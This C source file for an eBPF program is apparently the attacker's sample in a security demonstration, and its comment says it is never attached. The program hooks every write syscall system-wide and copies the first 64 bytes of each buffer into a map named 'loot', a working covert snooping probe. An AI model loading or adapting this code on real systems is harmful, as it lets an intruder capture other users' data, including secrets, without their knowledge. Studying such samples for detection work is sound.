/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* What the demo's attacker loads with bpftool: copies the first bytes of every write on the machine. Never attached. */
#include <linux/bpf.h>
#include <linux/ptrace.h>
#include <bpf/bpf_helpers.h>

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, char[64]);
} loot SEC(".maps");

SEC("raw_tracepoint/sys_enter")
int spy(struct bpf_raw_tracepoint_args *args)
{
	const struct pt_regs *regs = (const struct pt_regs *)args->args[0];
	unsigned long buffer = 0;
	__u32 first = 0;
	char *copy = bpf_map_lookup_elem(&loot, &first);

	if (!copy || args->args[1] != 1 /* write */)
		return 0;
	bpf_probe_read_kernel(&buffer, sizeof(buffer), &regs->rsi);
	bpf_probe_read_user(copy, 64, (const void *)buffer);
	return 0;
}

char LICENSE[] SEC("license") = "GPL";
